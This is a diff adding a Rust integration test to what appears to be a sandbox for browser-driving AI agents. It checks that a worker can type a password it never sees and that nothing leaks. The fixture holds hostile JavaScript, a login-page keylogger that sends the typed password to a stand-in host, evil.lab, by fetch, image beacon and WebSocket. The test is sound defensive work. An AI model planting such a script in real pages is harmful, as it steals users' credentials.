@@ -565,3 +565,104 @@ fn scenario_9_a_scoped_task_reaches_only_its_named_site() {
     );
     no_task_containers_left();
 }
+
+#[test]
+fn scenario_10_a_worker_signs_in_with_a_secret_it_never_sees() {
+    if !docker_ready() {
+        return;
+    }
+    use base64::Engine;
+    let password = "correct horse & \"battery\" <staple>'é";
+    // The hostile (in-scope) login page shows what is typed and tries to send it elsewhere.
+    let (evil, evil_seen) = site(|_| HashMap::from([("/", page("evil"))]));
+    let hostile = format!(
+        "document.getElementById('password').addEventListener('input', (e) => {{ \
+           const v = e.target.value; document.getElementById('echo').textContent = 'you typed ' + v; \
+           fetch('http://evil.lab:{evil}/steal?p=' + encodeURIComponent(v)).catch(() => {{}}); \
+           new Image().src = 'http://evil.lab:{evil}/img?p=' + btoa(unescape(encodeURIComponent(v))); \
+           try {{ new WebSocket('ws://evil.lab:{evil}/ws?p=' + encodeURIComponent(v)); }} catch (x) {{}} }});"
+    );
+    let (port, posted) = airlock_testkit::login::login_site("member", password, &hostile);
+    let resolver = dns(HashMap::from([
+        ("shop.lab", vec![Ipv4Addr::LOCALHOST]),
+        ("evil.lab", vec![Ipv4Addr::LOCALHOST]),
+    ]));
+    let dir = tempfile::tempdir().unwrap();
+    let secret_file = dir.path().join("shop-password");
+    std::fs::write(&secret_file, format!("{password}\n")).unwrap();
+    let shop = format!("http://shop.lab:{port}");
+    let script = json!({"turns": [
+        {"expect": {"system_contains": ["`shop_pw` (for shop.lab)"]},
+         "tool_calls": [call(&json!(["open", format!("{shop}/login")]))]},
+        {"tool_calls": [call(&json!(["fill", "#user", "member"]))]},
+        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
+        {"expect": {"shown_contains": ["Typed secret `shop_pw` into the password field."]},
+         "tool_calls": [call(&json!(["wait", "1000"]))]},
+        {"tool_calls": [call(&json!(["get", "text", "#echo"]))]},
+        {"expect": {"shown_contains": ["you typed [secret:shop_pw]"], "shown_not_contains": [password]},
+         "tool_calls": [call(&json!(["eval", "document.getElementById('password').value"]))]},
+        {"expect": {"shown_contains": ["not available while this task holds secrets"]},
+         "tool_calls": [call(&json!(["click", "#go"]))]},
+        {"tool_calls": [call(&json!(["wait", "--url", "**/account"]))]},
+        {"tool_calls": [call(&json!(["get", "text", "#welcome"]))]},
+        {"expect": {"shown_contains": ["Welcome back, member"]},
+         "tool_calls": [call(&json!(["open", format!("http://evil.lab:{evil}/")]))]},
+        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
+        {"expect": {"shown_contains": ["Refused", "`shop_pw`"]},
+         "text": "Signed in; the account page says Welcome back, member."}
+    ]});
+    let (result, output) = task(
+        dir.path(),
+        &script,
+        &[
+            "--allow",
+            &format!("127.0.0.1:{port}"),
+            "--allow",
+            &format!("127.0.0.1:{evil}"),
+            "--nameserver",
+            &format!("127.0.0.1:{resolver}"),
+            "--allowed-domain",
+            "shop.lab",
+            "--secret",
+            &format!("shop_pw@shop.lab=file:{}", secret_file.display()),
+        ],
+    );
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(result["ended"], "completed", "{result}\n{stderr}");
+    // The site got the exact password; the page's attempts to send it elsewhere reached nothing.
+    let forms = posted.lock().unwrap().clone();
+    assert_eq!(forms.len(), 1, "{forms:?}");
+    assert_eq!(forms[0]["password"], password);
+    assert!(
+        evil_seen.lock().unwrap().is_empty(),
+        "evil.lab heard the page"
+    );
+    let refused = refusals(&result, "target");
+    assert!(
+        refused.iter().any(|t| t.contains("evil.lab")),
+        "{refused:#?}"
+    );
+    // No output anywhere carries the password in any common spelling.
+    let b64 = base64::engine::general_purpose::STANDARD.encode(password);
+    let spellings = [
+        password.to_owned(),
+        percent_encoding::utf8_percent_encode(password, percent_encoding::NON_ALPHANUMERIC)
+            .to_string(),
+        serde_json::to_string(password).unwrap(),
+        b64.trim_end_matches('=').to_owned(),
+        password
+            .replace('&', "&amp;")
+            .replace('"', "&quot;")
+            .replace('<', "&lt;"),
+    ];
+    for spelling in &spellings {
+        for (what, text) in [("result JSON", &stdout), ("log", &stderr)] {
+            assert!(
+                !text.contains(spelling.as_str()),
+                "the {what} holds the password as {spelling}"
+            );
+        }
+    }
+    no_task_containers_left();
+}
